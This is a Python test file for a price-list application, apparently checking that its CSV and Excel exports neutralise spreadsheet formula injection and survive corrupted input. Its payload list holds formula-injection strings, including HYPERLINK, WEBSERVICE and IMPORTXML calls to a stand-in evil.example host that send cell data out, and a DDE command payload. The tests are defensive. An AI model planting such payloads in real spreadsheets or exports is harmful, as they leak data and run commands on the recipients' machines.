"""Tables that leave and come in: no text is worked out, nothing made to hurt gets by.

The payloads are our own, after the ways OWASP ASVS 5.0 1.2.10 and the trade press on
spreadsheets describe: leading signs, full-width signs, controls and blanks before them,
line breaks and quotes that try to begin a new cell.
"""

from __future__ import annotations

import csv
import io
import random
from dataclasses import replace
from datetime import date
from decimal import Decimal
from fractions import Fraction

import openpyxl
import pytest

from materials.core.errors import Refusal
from materials.core.pricelist import (
    DatedPrice,
    ListedMaterial,
    ListedPack,
    PriceList,
)
from materials.core.tables import comma, workbook
from materials.core.tables.cells import Row
from materials.core.tables.price_changes import compared
from materials.core.tables.price_columns import read_rows
from materials.core.tables.price_table import price_table

TODAY = date(2026, 5, 4)
SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
BODIES = [
    "1+1",
    'HYPERLINK("http://evil.example/?"&A1,"open")',
    "cmd|' /C calc'!A0",
    "SUM(1;2)",
    'WEBSERVICE("http://evil.example")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
]
PAYLOADS = [
    *(f"{sign}{body}" for sign in SIGNS for body in BODIES),
    *(f"{before}=1+1" for before in ("\x00", "\x1b", "\x07\x08", "\ufffe", "'")),
    'plain",=1+1', "plain\r\n=1+1", "plain\n=1+1", 'x"";=1+1', "a;=1+1", "a\t=1+1",
]  # fmt: skip
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\x00")


def table_with(payload: str) -> list[Row]:
    """Return the price list with a payload in every field of text it has."""
    pack = ListedPack(
        key="1",
        label=payload,
        content=Fraction(5),
        supplier=payload,
        supplier_code=payload,
        prices=(DatedPrice(valid_from=TODAY, amount=125_000, origin=payload),),
    )
    material = ListedMaterial(
        code=payload,
        name=payload,
        kind="sealant",
        facts={},
        facts_typed={"note": payload},
        packs=(pack, replace(pack, prices=())),
    )
    return list(price_table(PriceList(currency="GBP", materials=(material,)), TODAY))


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_cell_begins_like_a_formula_for_another_reader(payload: str) -> None:
    rows = table_with(payload)
    text = comma.written(rows).decode("utf-8-sig")
    theirs = list(csv.reader(io.StringIO(text, newline="")))

    assert [len(row) for row in theirs] == [len(row) for row in rows]
    for ours, row in zip(rows, theirs, strict=True):
        for cell, seen in zip(ours, row, strict=True):
            if isinstance(cell, str):
                assert not seen.startswith(FORMULA)
            elif isinstance(cell, Decimal):
                assert Decimal(seen) == cell

    book = openpyxl.load_workbook(io.BytesIO(workbook.written({"Prices": rows})))
    kinds = {cell.data_type for row in book["Prices"] for cell in row}
    assert kinds <= {"s", "n", "d"}
    assert {
        cell.data_type for row in book["Prices"] for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA)
    } == set()  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_what_left_comes_back_but_for_controls(payload: str) -> None:
    rows = table_with(payload)
    plain = "".join(sign for sign in payload if sign >= " " or sign in "\t\r\n")
    plain = plain.replace("\ufffe", "")

    for read, data in (
        (comma.read, comma.written(rows)),
        (workbook.read, workbook.written({"Prices": rows})),
    ):
        name = read(data)[1][1]
        assert name.replace("\r\n", "\n").replace("\r", "\n") == (
            plain.replace("\r\n", "\n").replace("\r", "\n")
        )


def test_a_spoiled_table_is_a_sentence_or_rows_that_say_why() -> None:
    rng = random.Random(11)
    whole = comma.written(table_with("Grout, grey"))
    for _ in range(400):
        spoiled = bytearray(whole)
        for _ in range(rng.choice([1, 2, 8])):
            spoiled[rng.randrange(len(spoiled))] = rng.choice(b'",;\n=0-\x00\xff')
        try:
            rows = read_rows(comma.read(bytes(spoiled)))
        except Refusal as refusal:
            assert refusal.sentence  # noqa: PT017
            continue
        for one in compared(
            rows, PriceList(currency="GBP"), system="metric", today=TODAY
        ):
            assert bool(one.sentence) == (one.verdict == "refused")
